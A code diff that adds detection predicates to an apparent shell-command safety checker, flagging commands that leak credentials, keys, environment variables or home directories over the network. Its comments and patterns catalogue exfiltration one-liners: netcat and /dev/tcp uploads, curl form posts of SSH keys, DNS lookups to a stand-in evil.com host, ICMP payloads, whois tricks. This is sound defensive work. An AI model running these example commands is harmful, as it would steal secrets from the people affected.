@@ -1,4 +1,502 @@
+import { own } from '../../own.js';
 /** Named predicates for the exfiltration rules (rules/builtin/exfiltration.json). */
+import picomatch from 'picomatch';
 import type { Subject } from '../subject.js';
+import type { Operation } from '../../ops/types.js';
+import type { Span } from '../../syntax/ast.js';
 
-export const exfiltrationPredicates: Record<string, (s: Subject) => boolean> = {};
+// ---------------------------------------------------------------------------------------------
+// What counts as a secret
+
+/**
+ * Secrets beyond the core's `sensitive` class (which also covers rc files and agent settings):
+ * shell history, the process environment, account databases, registry and cloud tokens.
+ * Written with a leading `**` so they hold for any home directory.
+ */
+const EXTRA_SECRETS = picomatch(
+  [
+    '**/.*_history',
+    '**/.histfile',
+    '/proc/*/environ',
+    '/proc/self/environ',
+    '/etc/passwd',
+    '/etc/master.passwd',
+    '**/.cargo/credentials',
+    '**/.cargo/credentials.toml',
+    '**/.gem/credentials',
+    '**/.vault-token',
+    '**/.terraform.d/credentials.tfrc.json',
+    '**/.config/rclone/rclone.conf',
+    '**/.password-store/**',
+    '**/.local/share/keyrings/**',
+    '**/.htpasswd',
+    '**/.pgpass',
+    '**/.my.cnf',
+    '**/.config/gh/hosts.yml',
+    '**/.config/hub',
+    // the whole ~/.config holds gh, gcloud, rclone… tokens
+    '/home/*/.config',
+    '/Users/*/.config',
+    '/root/.config',
+  ],
+  { dot: true },
+);
+
+/** Sensitive-class paths that are configuration, not secrets: sending them is not a leak. */
+const NOT_SECRET = picomatch(
+  [
+    '**/*.pub',
+    '**/.ssh/config',
+    '**/.ssh/known_hosts*',
+    '**/.env.example',
+    '**/.env.sample',
+    '**/.env.template',
+    '**/.env.dist',
+    '**/.env.defaults',
+    '**/.bashrc',
+    '**/.bash_profile',
+    '**/.bash_login',
+    '**/.bash_logout',
+    '**/.profile',
+    '**/.zshrc',
+    '**/.zshenv',
+    '**/.zprofile',
+    '**/.zlogin',
+    '**/.config/fish/**',
+    '/etc/profile',
+    '/etc/bash.bashrc',
+    '**/.git/hooks/**',
+    '**/.vscode/settings.json',
+  ],
+  { dot: true },
+);
+
+/** A path whose content is a credential, a key, an environment or an account database. */
+export function isSecretPath(path: string, classes: readonly string[] = []): boolean {
+  if (NOT_SECRET(path)) return false;
+  return classes.includes('sensitive') || EXTRA_SECRETS(path);
+}
+
+/** Directories whose every file is a secret: a glob inside them (`~/.ssh/*`) reads secrets. */
+const SECRET_DIRS = picomatch(['**/.ssh', '**/.aws', '**/.gnupg', '**/.kube', '**/.password-store', '**/.config/gcloud', '**/.azure', '/etc/ssl/private'], { dot: true });
+
+/**
+ * The operation reads a secret. A glob counts only when its fixed directory is a secret
+ * directory: `~/.ssh/*` does, `~/.bash*` or find's `{}` placeholder (which may match anything) do not.
+ */
+function isSecretRead(op: Operation): boolean {
+  if ((op.kind !== 'Read' && op.kind !== 'List') || op.path === undefined) return false;
+  if (op.glob) {
+    const fixed = op.path.slice(0, op.path.search(/[*?[{]/));
+    const dir = fixed.slice(0, fixed.lastIndexOf('/'));
+    return dir !== '' && SECRET_DIRS(dir);
+  }
+  return isSecretPath(op.path, op.classes ?? []);
+}
+
+/** Secret paths written in text (socat `file:…`, sftp `put …`), where no operation resolves them. */
+const SECRET_TEXT =
+  /(^|[\s:'"=])(~|\$HOME|\/home\/[^/\s]+|\/root|\/Users\/[^/\s]+)?\/?\.(ssh\/(id_|identity)|aws\/|gnupg\/|kube\/config|netrc|git-credentials|npmrc|pypirc|docker\/config\.json|config\/gcloud\/|azure\/)|\/etc\/(shadow|gshadow|passwd|master\.passwd)\b|(^|[\s/:'"])\.env(\s|$|['"])|\/proc\/[^/\s]+\/environ\b|\bid_(rsa|dsa|ecdsa|ed25519)(\s|$|['"])/;
+
+function textNamesSecret(text: string): boolean {
+  return SECRET_TEXT.test(text) && !/\.pub(\s|$|['"])/.test(text.match(SECRET_TEXT)?.[0] ?? '');
+}
+
+// ---------------------------------------------------------------------------------------------
+// Who sends data over the network
+
+const HTTP_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'httpie', 'lwp-request', 'POST', 'PUT']);
+const RAW_SOCKETS = new Set([
+  'nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'netcat.traditional', 'netcat.openbsd', 'pwncat', 'cryptcat',
+  'socat', 'telnet', 'gnutls-cli',
+]);
+const MAILERS = new Set(['mail', 'mailx', 'mutt', 'sendmail', 'swaks', 'msmtp']);
+
+function isRawSocket(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === 'openssl') return s.parsed.subcommands[0] === 's_client';
+  return p !== null && RAW_SOCKETS.has(p);
+}
+
+/** Commands whose stdin goes to another machine. */
+function sendsStdin(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null) return false;
+  if (HTTP_CLIENTS.has(p) || MAILERS.has(p) || isRawSocket(s)) return true;
+  if (p === 'ssh') return true;
+  // `aws s3 cp - s3://…`, `gsutil cp - gs://…`, `rclone rcat remote:f`
+  if ((p === 'aws' || p === 'gsutil' || p === 's3cmd') && s.cmd.args.some((a) => a.value === '-')) return true;
+  if (p === 'rclone' && s.cmd.args.some((a) => a.value === 'rcat')) return true;
+  return false;
+}
+
+/** Options whose value is a request body or an uploaded file, per program. */
+const UPLOAD_OPTIONS: Record<string, string[]> = {
+  curl: ['-F', '--form', '-d', '--data', '--data-binary', '--data-urlencode', '--data-ascii', '--json', '-T', '--upload-file'],
+  wget: ['--post-file', '--body-file'],
+  http: ['--form', '-f'],
+  ab: ['-p', '-u'],
+  hping3: ['--file', '-E'],
+  mail: ['-a', '-A', '--attach'],
+  mailx: ['-a', '-A', '--attach'],
+  mutt: ['-a'],
+  swaks: ['--attach', '--attach-body'],
+};
+
+function uploadOptions(program: string): string[] {
+  return own(UPLOAD_OPTIONS, program) ?? (HTTP_CLIENTS.has(program) ? UPLOAD_OPTIONS.curl : []);
+}
+
+/** An option value as a path: `name=@path` / `@path` / `path`. */
+function valuePath(v: string): string {
+  return ' ' + v.replace(/^[A-Za-z0-9_.-]*=(?=@|\/|~)/, '').replace(/^@/, '').replace(/;.*$/, '');
+}
+
+function within(inner: Span, outer: Span): boolean {
+  return inner.start >= outer.start && inner.end <= outer.end;
+}
+
+/** A remote destination among the arguments: `host:path`, `user@host:`, `s3://…`, `rsync://…`. */
+function hasRemoteTarget(s: Subject): boolean {
+  return s.cmd.args.some(
+    (a) =>
+      !a.value.startsWith('-') &&
+      (/^[A-Za-z0-9._-]+@[^/\s:]+:/.test(a.value) ||
+        /^[A-Za-z0-9._-]+:(?!\/\/)/.test(a.value) ||
+        /^(s3|gs|az|rsync|sftp|ftp|ftps|webdav|b2|r2):\/\//i.test(a.value)),
+  );
+}
+
+/** Programs that copy their operand files to another machine. */
+const REMOTE_COPIERS = new Set(['scp', 'rsync', 'sftp', 'rclone', 'gsutil', 's3cmd', 'lp', 'lpr', 'smbclient', 'restic', 'duplicity']);
+
+/** Output goes to a bash network redirect: `> /dev/tcp/HOST/PORT`. */
+function writesToSocket(s: Subject): boolean {
+  return s.cmd.redirects.some((r) => r.path !== null && /^\/dev\/(tcp|udp)\//.test(r.path.value) && !r.op.startsWith('<'));
+}
+
+/**
+ * The command uploads a secret file: curl -F f=@~/.ssh/id_rsa, curl -T ~/.aws/credentials,
+ * wget --post-file=/etc/shadow, scp/rsync/aws s3 cp of a key to a remote, gh gist create .env,
+ * nc host < /etc/shadow, socat file:/etc/shadow tcp:…. Identity and certificate options
+ * (scp -i, curl --cert) read keys to authenticate, not to send them, and do not count.
+ */
+function uploadsSecret(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null) return false;
+  const secretOps = s.ops.filter(isSecretRead);
+  // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`
+  if (secretOps.length > 0 && writesToSocket(s)) return true;
+  // stdin from a secret file, to anything that sends its stdin
+  if (secretOps.some((o) => o.source === 'redirect') && sendsStdin(s)) return true;
+  const names = uploadOptions(p);
+  if (names.length > 0) {
+    const uploads = s.parsed.options.filter((o) => names.includes(o.name) && o.value !== null).map((o) => o.value!);
+    if (secretOps.some((op) => uploads.some((v) => within(op.span, v.span)))) return true;
+    // specs that do not resolve the option's file: `ab -p /etc/shadow`, `hping3 --file /etc/shadow`
+    if (uploads.some((v) => textNamesSecret(valuePath(v.value)))) return true;
+    // no spec at all: `--file /etc/shadow` as plain words
+    const args = s.cmd.args.map((a) => a.value);
+    return args.some((a, i) => names.includes(a) && i + 1 < args.length && textNamesSecret(valuePath(args[i + 1])));
+  }
+  if (p === 'socat') {
+    return (
+      s.cmd.args.some((a) => /^(file|open|gopen):/i.test(a.value) && textNamesSecret(' ' + a.value.replace(/^[a-z]+:/i, '').split(',')[0])) &&
+      s.cmd.args.some((a) => /^(tcp|udp|ssl|openssl|sctp)[0-9-]*[a-z-]*:/i.test(a.value))
+    );
+  }
+  // A project's .env copied to a server or bucket is how apps get deployed; to a gist, a form
+  // upload or a raw socket it is a leak (handled above and below).
+  const deployable = (o: Operation) => /\/\.env(\.[^/]*)?$/.test(o.path ?? '') && !(o.classes ?? []).includes('outside');
+  const operandSecret = secretOps.some((o) => o.source === 'operand' && !(deployable(o) && p !== 'gh' && p !== 'glab'));
+  const operandText = s.parsed.operands.some((a) => textNamesSecret(' ' + a.value));
+  if (REMOTE_COPIERS.has(p)) return (operandSecret || ((p === 'lp' || p === 'lpr') && operandText)) && (hasRemoteTarget(s) || p === 'lp' || p === 'lpr' || p === 'smbclient');
+  if (p === 'aws') return s.parsed.subcommands[0] === 's3' && operandSecret && hasRemoteTarget(s);
+  if (p === 'gcloud' || p === 'az') return operandSecret && hasRemoteTarget(s);
+  if (p === 'gh' || p === 'glab') {
+    const sub = s.cmd.args.filter((a) => !a.value.startsWith('-')).map((a) => a.value);
+    return (sub[0] === 'gist' || (sub[0] === 'release' && sub[1] === 'upload') || sub[0] === 'snippet') && operandSecret;
+  }
+  if (p === 'tar' || p === 'bsdtar' || p === 'gtar') {
+    return operandSecret && (s.hasFlag('--rsh-command') || s.ops.some((o) => o.kind === 'Network'));
+  }
+  return false;
+}
+
+/** sftp/ftp/lftp/smbclient told to `put` a secret file (batch text on stdin or in -c). */
+function putsSecret(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null || !['sftp', 'ftp', 'lftp', 'smbclient', 'tftp', 'ncftp', 'ncftpput'].includes(p)) return false;
+  const texts = [...s.cmd.redirects.map((r) => r.input ?? ''), ...s.cmd.args.map((a) => a.value)];
+  return texts.some((t) => /\b(put|mput|send|append)\s+\S/.test(t) && textNamesSecret(' ' + t.replace(/^[\s\S]*?\b(put|mput|send|append)\s+/, ' ')));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Where secret data comes from when it is streamed or substituted
+
+const ENV_DUMPERS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'typeset', 'compgen']);
+const DB_DUMPERS = new Set(['mysqldump', 'mariadb-dump', 'pg_dump', 'pg_dumpall', 'mongodump', 'mongoexport', 'sqlite3', 'redis-cli']);
+const CREDENTIAL_PATTERN = /AKIA|ASIA|PRIVATE KEY|aws_secret|password\s*=|passwd|api[_-]?key|secret[_-]?key|BEGIN (RSA|OPENSSH|EC|DSA|PGP)/i;
+
+function isSecretSource(o: Subject, withDatabases: boolean): boolean {
+  const p = o.cmd.program;
+  if (o.ops.some(isSecretRead)) return true;
+  if (p === null) return false;
+  const args = o.cmd.args.map((a) => a.value);
+  // `env`, `printenv`, `set`, `export -p`, `declare -x` print the whole environment
+  if (ENV_DUMPERS.has(p)) {
+    if (p === 'env' || p === 'printenv') return args.every((a) => a.startsWith('-'));
+    if (p === 'set') return args.length === 0;
+    return args.length > 0 && args.every((a) => /^-[px]+$/.test(a));
+  }
+  if (p === 'kubectl' || p === 'oc') return args.some((a) => /^secrets?$|^secrets?\//.test(a)) && args.includes('get');
+  if (p === 'aws') return args.includes('secretsmanager') || (args.includes('ssm') && args.includes('get-parameter')) || args.includes('get-session-token') || (args.includes('configure') && args.includes('export-credentials'));
+  if (p === 'gcloud') return args.includes('secrets') || args.includes('print-access-token');
+  if (p === 'vault') return args.includes('read') || (args.includes('kv') && args.includes('get'));
+  if (p === 'security') return args.some((a) => /^find-(generic|internet)-password$|^dump-keychain$/.test(a));
+  if (p === 'gpg') return args.some((a) => /^--export-secret/.test(a));
+  if (p === 'pass') return args[0] === 'show' || (args.length === 1 && !args[0].startsWith('-'));
+  if (p === 'history') return true;
+  if ((p === 'curl' || p === 'wget') && args.some((a) => /169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254/.test(a))) return true;
+  if ((p === 'grep' || p === 'rg' || p === 'egrep' || p === 'ag' || p === 'git') && args.some((a) => CREDENTIAL_PATTERN.test(a)) && (p !== 'git' || args[0] === 'grep')) {
+    return true;
+  }
+  if (withDatabases && DB_DUMPERS.has(p)) {
+    if (p === 'sqlite3') return args.some((a) => /^\.dump/.test(a));
+    if (p === 'redis-cli') return args.includes('--rdb');
+    return true;
+  }
+  return false;
+}
+
+/**
+ * A secret streamed into a network sender: `cat ~/.ssh/id_rsa | nc h p`, `env | curl -d @- …`,
+ * `tar czf - ~/.ssh | curl -T - …`, `kubectl get secrets -o yaml | curl …`,
+ * `cat /etc/shadow | ssh h 'cat > x'`. Database dumps count toward raw sockets and HTTP uploads,
+ * not ssh (`pg_dump | ssh host psql` is a migration).
+ */
+function pipesSecret(s: Subject): boolean {
+  if (!sendsStdin(s)) return false;
+  const p = s.cmd.program ?? '';
+  const ownHost = p === 'ssh' || MAILERS.has(p);
+  return s.pipelineNeighbours('before').some(
+    // `cat .env | ssh host 'cat > /srv/app/.env'` deploys a project's env file
+    (o) => isSecretSource(o, !ownHost) && !(ownHost && o.ops.filter(isSecretRead).every((x) => /\/\.env(\.[^/]*)?$/.test(x.path ?? '')) && o.ops.some(isSecretRead)),
+  );
+}
+
+/** Header-like arguments that carry a credential to the service it belongs to. */
+const AUTH_ARG = /^\s*(Proxy-)?Authorization\s*:|^\s*(X-Api-Key|Private-Token|X-Auth-Token|Api-Key|X-Vault-Token)\s*:/i;
+
+/**
+ * A secret substituted into a request: `curl -d "$(cat ~/.aws/credentials)"`,
+ * `curl -H "X: $(cat ~/.ssh/id_rsa | base64)"`, `wget --post-data="$(env)"`. A credential sent
+ * as an Authorization header or as -u credentials is how APIs are called and does not count.
+ */
+function secretSubstituted(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null || !(HTTP_CLIENTS.has(p) || isRawSocket(s) || p === 'whois' || MAILERS.has(p) || writesToSocket(s))) return false;
+  const userValues = new Set(s.parsed.options.filter((o) => ['-u', '--user', '--oauth2-bearer', '--http-password', '--password'].includes(o.name)).map((o) => o.value));
+  return s.feeders().some((f) => {
+    if (!isSecretSource(f, false)) return false;
+    const arg = s.cmd.args.find((a) => within(f.cmd.span, a.span));
+    if (!arg) return true;
+    if (AUTH_ARG.test(arg.value)) return false;
+    return ![...userValues].some((v) => v !== null && v.span.start === arg.span.start);
+  });
+}
+
+/** Encoders that turn file bytes into DNS-label or ping-pattern text. */
+const ENCODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'gzip', 'bzip2', 'xz', 'openssl', 'tar']);
+
+/** Commands whose output is a normal DNS label (this host's name, a date, a fresh id). */
+const BENIGN_LABELS = new Set(['hostname', 'date', 'uuidgen', 'seq', 'shuf', 'printf', 'echo', 'jq', 'cut', 'tr', 'sed', 'awk', 'hostnamectl']);
+
+/**
+ * DNS exfiltration: a lookup of `<data>.<domain>` where the data is a command substitution
+ * (`nslookup $(whoami).x.com`, `dig $(cat /etc/passwd | base64).evil.com`) or a loop variable
+ * fed by an encoder on the same line (`for i in $(base64 -w0 /etc/passwd); do dig $i.x.com; done`).
+ */
+function dnsExfil(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null || !['dig', 'nslookup', 'host', 'drill', 'delv', 'kdig', 'resolvectl', 'getent'].includes(p)) return false;
+  return s.cmd.args.some((a) => {
+    if (!a.dynamic) return false;
+    const m = /^(\$\(…\)|`…`|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?)\S*\.[A-Za-z0-9-]+\.?$/.exec(a.value);
+    if (!m) return false;
+    // `dig $(hostname -s).corp.example` names this host; data from anything else is smuggled
+    if (m[1] === '$(…)' || m[1] === '`…`') return s.feeders().some((f) => !BENIGN_LABELS.has(f.cmd.program ?? ''));
+    return (
+      s.cmd.context.loop &&
+      s.all.some((o) => o.cmd.id < s.cmd.id && o.cmd.program !== null && ENCODERS.has(o.cmd.program) && (o.ops.some((x) => x.kind === 'Read') || isSecretSource(o, false)))
+    );
+  });
+}
+
+/** ICMP payload from data: `ping -p $(xxd -p -l 16 ~/.ssh/id_rsa) h`, `hping3 --file /etc/shadow`. */
+function icmpExfil(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === 'ping' || p === 'ping6') {
+    const pattern = s.parsed.options.find((o) => o.name === '-p')?.value;
+    return pattern !== undefined && pattern !== null && pattern.dynamic && s.feeders().length > 0;
+  }
+  if (p === 'hping3' || p === 'hping' || p === 'hping2' || p === 'nping') {
+    return s.cmd.args.some((a) => a.value === '--file' || a.value === '-E' || a.value === '--data-string');
+  }
+  return false;
+}
+
+/**
+ * whois to a server of one's choosing with substituted data: `whois -h 10.0.0.1 -p 4444 "$(id)"`
+ * sends the text to that host's port (a known exfiltration trick; whois needs no substitution).
+ */
+function whoisExfil(s: Subject): boolean {
+  if (s.cmd.program !== 'whois') return false;
+  return s.cmd.args.some((a) => a.value === '-h' || a.value.startsWith('-h') || a.value === '--host') && s.feeders().length > 0;
+}
+
+/** Names of files worth stealing, as a find/locate/grep looks for them. */
+const KEY_NAMES = /id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|credentials|\.env\b|wallet\.dat|\.ovpn\b|private/i;
+
+/**
+ * A file collected from a key hunt is uploaded: `find / -name id_rsa | xargs tar czf /tmp/k.tgz
+ * && curl -F f=@/tmp/k.tgz …`. The archive's name says nothing; where its content came from does.
+ */
+function uploadsCollectedKeys(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null || !(HTTP_CLIENTS.has(p) || REMOTE_COPIERS.has(p) || p === 'aws')) return false;
+  const sent = new Set(s.ops.filter((o) => o.kind === 'Read' && o.path !== undefined).map((o) => o.path!));
+  if (sent.size === 0) return false;
+  return s.all.some(
+    (o) =>
+      o.cmd.id < s.cmd.id &&
+      o.ops.some((w) => w.kind === 'Write' && w.path !== undefined && sent.has(w.path)) &&
+      o.pipelineNeighbours('before').some(
+        (f) => ['find', 'locate', 'plocate', 'fd', 'grep', 'rg'].includes(f.cmd.program ?? '') && f.cmd.args.some((a) => KEY_NAMES.test(a.value)),
+      ),
+  );
+}
+
+/** `tailscale serve|funnel` of a secret file, the root or a home directory. */
+function tailscaleServesSecret(s: Subject): boolean {
+  if (s.cmd.program !== 'tailscale') return false;
+  const args = s.cmd.args.map((a) => a.value);
+  if (args[0] !== 'serve' && args[0] !== 'funnel') return false;
+  return args.slice(1).some((a) => !a.startsWith('-') && (textNamesSecret(' ' + a) || exposesDir(a)));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Serving a directory
+
+const HOME_DIR = /^\/(home|Users)\/[^/]+\/?$|^\/root\/?$/;
+const EXPOSED_DIR = /^\/$|^\/(home|Users|etc|root|var|usr|proc|boot|srv|opt)\/?$/;
+
+function exposesDir(dir: string | null | undefined): boolean {
+  if (!dir) return false;
+  const d = dir.replace(/\/+$/, '') || '/';
+  return HOME_DIR.test(d) || EXPOSED_DIR.test(d) || isSecretPath(d) || /\/\.(ssh|aws|gnupg|kube|config)$/.test(d);
+}
+
+function optionValue(s: Subject, names: string[]): string | null {
+  const o = s.parsed.options.find((x) => names.includes(x.name) && x.value !== null);
+  if (o) return o.value!.value;
+  // no spec for the program: look for `--name value` / `--name=value` in the words
+  const args = s.cmd.args.map((a) => a.value);
+  for (let i = 0; i < args.length; i++) {
+    for (const n of names) {
+      if (args[i] === n && i + 1 < args.length) return args[i + 1];
+      if (args[i].startsWith(n + '=')) return args[i].slice(n.length + 1);
+    }
+  }
+  return null;
+}
+
+/**
+ * A web server whose document root is `/`, a home directory, a system directory or a secret
+ * directory: `python3 -m http.server --directory /`, `cd ~ && python -m http.server`,
+ * `php -S 0.0.0.0:80 -t /`, `busybox httpd -h /`, `ruby -run -e httpd /`. Anyone who can reach
+ * the port reads ~/.ssh, ~/.aws and every .env.
+ */
+function servesSensitiveDir(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null) return false;
+  const args = s.cmd.args.map((a) => a.value);
+  if (/^python[0-9.]*$|^pypy3?$/.test(p)) {
+    const mi = args.indexOf('-m');
+    const mod = mi >= 0 ? args[mi + 1] : args.find((a) => a.startsWith('-m') && a.length > 2)?.slice(2);
+    if (mod !== 'http.server' && mod !== 'SimpleHTTPServer' && mod !== 'uploadserver' && mod !== 'updog') return false;
+    return exposesDir(optionValue(s, ['--directory', '-d']) ?? s.cmd.cwd);
+  }
+  if (/^php[0-9.]*$/.test(p)) {
+    if (!args.some((a) => a === '-S' || a.startsWith('-S'))) return false;
+    return exposesDir(optionValue(s, ['-t']) ?? s.cmd.cwd);
+  }
+  if (p === 'httpd' && s.ancestors().some((a) => a.cmd.program === 'busybox')) return exposesDir(optionValue(s, ['-h']) ?? s.cmd.cwd);
+  if (p === 'busybox' && args[0] === 'httpd') return exposesDir(optionValue(s, ['-h']) ?? s.cmd.cwd);
+  if (/^ruby[0-9.]*$/.test(p) && args.some((a) => a === '-run' || a === '-run,httpd') && args.includes('httpd')) {
+    const dir = args.filter((a) => !a.startsWith('-') && a !== 'httpd').pop();
+    return exposesDir(dir ?? s.cmd.cwd);
+  }
+  if (p === 'http-server' || p === 'serve' || p === 'live-server' || p === 'webfsd' || p === 'updog' || p === 'miniserve') {
+    const dir = optionValue(s, ['-d', '--directory', '-r', '--root']) ?? s.parsed.operands.map((a) => a.value).find((a) => a.startsWith('/') || a === '~');
+    return exposesDir(dir ?? s.cmd.cwd);
+  }
+  if ((p === 'npx' || p === 'bunx' || p === 'pnpx') && ['http-server', 'serve', 'live-server'].includes(args[0] ?? '')) {
+    const dir = args.slice(1).find((a) => a.startsWith('/'));
+    return exposesDir(dir ?? s.cmd.cwd);
+  }
+  if (p === 'caddy' && args[0] === 'file-server') return exposesDir(optionValue(s, ['--root', '-r']) ?? s.cmd.cwd);
+  if (p === 'twistd' && args.includes('web')) return exposesDir(optionValue(s, ['--path']));
+  return false;
+}
+
+/** `kubectl proxy --address=0.0.0.0 --accept-hosts='.*'`: the cluster API, unauthenticated, on every interface. */
+function openKubeProxy(s: Subject): boolean {
+  if (s.cmd.program !== 'kubectl' && s.cmd.program !== 'oc') return false;
+  if (!s.cmd.args.some((a) => a.value === 'proxy')) return false;
+  const addr = optionValue(s, ['--address']);
+  return addr !== null && !/^(127\.|localhost$|::1$)/.test(addr);
+}
+
+/** Reads a secret file (for `git add`, `cp` sources). */
+function readsSecret(s: Subject): boolean {
+  return s.ops.some(isSecretRead);
+}
+
+/**
+ * Reads the whole home directory or filesystem root (`~`, `/`, `~/*`, `/*`); a glob inside home
+ * (`~/.bash*`) picks a few files and does not count.
+ */
+function readsHomeOrRoot(s: Subject): boolean {
+  return s.ops.some((o) => {
+    if ((o.kind !== 'Read' && o.kind !== 'List') || o.path === undefined) return false;
+    const classes = o.classes ?? [];
+    if (!o.glob) return classes.includes('home') || classes.includes('root');
+    // `/*`, `~/*`, `~/.*`: everything one level down
+    const m = /^(.*?)\/(\*|\.\*)$/.exec(o.path);
+    return m !== null && (m[1] === '' || HOME_DIR.test(m[1]));
+  });
+}
+
+/** Copies a secret into a directory a web server publishes. */
+function secretToWebRoot(s: Subject): boolean {
+  const web = picomatch(['/var/www/**', '/srv/www/**', '/srv/http/**', '/usr/share/nginx/html/**', '/var/lib/nginx/html/**', '**/public_html/**', '/Library/WebServer/**'], { dot: true });
+  return s.ops.some(isSecretRead) && s.ops.some((o) => o.kind === 'Write' && o.path !== undefined && web(o.path));
+}
+
+export const exfiltrationPredicates: Record<string, (s: Subject) => boolean> = {
+  'exfiltration/uploads-secret': uploadsSecret,
+  'exfiltration/puts-secret': putsSecret,
+  'exfiltration/pipes-secret': pipesSecret,
+  'exfiltration/secret-substituted': secretSubstituted,
+  'exfiltration/dns-exfil': dnsExfil,
+  'exfiltration/icmp-exfil': icmpExfil,
+  'exfiltration/serves-sensitive-dir': servesSensitiveDir,
+  'exfiltration/open-kube-proxy': openKubeProxy,
+  'exfiltration/reads-secret': readsSecret,
+  'exfiltration/whois-exfil': whoisExfil,
+  'exfiltration/reads-home-or-root': readsHomeOrRoot,
+  'exfiltration/uploads-collected-keys': uploadsCollectedKeys,
+  'exfiltration/tailscale-serves-secret': tailscaleServesSecret,
+  'exfiltration/secret-to-web-root': secretToWebRoot,
+};
